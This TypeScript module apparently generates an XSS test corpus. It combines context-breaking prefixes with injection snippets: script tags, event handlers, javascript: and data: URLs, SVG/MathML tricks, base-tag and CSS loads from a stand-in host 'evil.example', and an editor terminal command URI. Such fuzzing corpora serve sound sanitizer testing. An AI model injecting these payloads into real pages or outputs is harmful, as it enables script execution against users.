import { xssPayloads } from '../browser/tools/xssPayloads.ts';
import { shared } from '../shared.ts';

/** Texts that end the context around them, such as an attribute or a comment. */
const ways = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  '--></style></script>',
  '</title></textarea></noscript>',
  '</svg></math>',
  ']]>',
  '\\"',
  '&quot;&#62;',
  '\u2028',
  '\n\n',
  '{`',
  '\0>',
] as const;

const call = 'alert(1)';
const host = 'https://evil.example';

/** Code that runs or requests something, by kind. */
const acts: Readonly<Record<string, string>> = {
  script: `<script>${call}</script>`,
  'script of a host': `<script src=${host}/a.js></script>`,
  'handler of a picture': `<img src=x onerror=${call}>`,
  'handler without blanks': `<img/src/onerror=${call}//>`,
  'handler of a drawing': `<svg onload=${call}><g/></svg>`,
  'script in a drawing': `<svg><script>${call}</script><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  'set attribute': `<svg><a><set attributeName=href to=javascript:${call} /><text>x</text></a></svg>`,
  'use of a host': `<svg><use href="${host}/a.svg#x"/><image href="${host}/b.png"/></svg>`,
  'foreign object': `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
  math: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  frame: `<iframe src="javascript:parent.${call}"></iframe>`,
  'frame with a document': `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
  object: `<object data="javascript:${call}"></object><embed src="${host}/x.swf">`,
  'automatic focus': `<input autofocus onfocus=${call}><details open ontoggle=${call}>`,
  video: `<video><source onerror=${call}></video><audio src=x onerror=${call}>`,
  'meta refresh': `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  base: `<base href="${host}/"><link rel=stylesheet href="${host}/a.css">`,
  form: `<form action="javascript:${call}"><button autofocus formaction="javascript:${call}">x</button></form>`,
  'javascript address': `javascript:${call}`,
  'address with breaks': `java\tscript:${call}//`,
  'data address': `data:text/html,<script>${call}</script>`,
  'address without a scheme': '//evil.example/a.png',
  'command of an editor': 'command:workbench.action.terminal.new',
  'css address': `x;background:url(${host}/css.png);--y:`,
  'css import': `@import "${host}/a.css"; *{background:url(${host}/i.png)}`,
  'css end': `}</style><img src=x onerror=${call}>`,
};

/** More than 400 texts: each text that ends a context, followed by each piece of code. */
const own: readonly string[] = Object.values(acts).flatMap((act) => ways.map((way) => way + act));

/** Payloads: our own, and the published lists if available. */
export const payloads: readonly string[] = [...new Set([...own, ...(shared === undefined ? [] : xssPayloads())])];
